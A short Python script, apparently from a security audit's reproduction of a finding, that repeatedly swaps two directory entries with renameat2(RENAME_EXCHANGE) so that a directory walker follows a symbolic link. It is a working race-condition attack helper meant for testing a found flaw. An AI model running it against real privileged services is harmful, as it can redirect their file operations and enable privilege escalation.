"""Swap two names in one folder, again and again, with renameat2(RENAME_EXCHANGE): what a user does to its own
folder to make a walker that queued a folder by name follow a symbolic link instead (attack2 finding 2). Run as
that user: ``python3 exchange_racer.py FOLDER NAME_A NAME_B SECONDS``. Stdlib only (it is copied where the user
can read it)."""
import ctypes
import os
import sys
import time

RENAMEAT2 = {"x86_64": 316, "aarch64": 276}
RENAME_EXCHANGE = 2


def main(folder: str, first: str, second: str, seconds: float) -> int:
    libc = ctypes.CDLL(None, use_errno=True)
    number = RENAMEAT2[os.uname().machine]
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    end = time.monotonic() + seconds
    swaps = 0
    while time.monotonic() < end:
        if libc.syscall(number, fd, first.encode(), fd, second.encode(), RENAME_EXCHANGE) == 0:
            swaps += 1
    print(swaps)
    return 0 if swaps else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])))
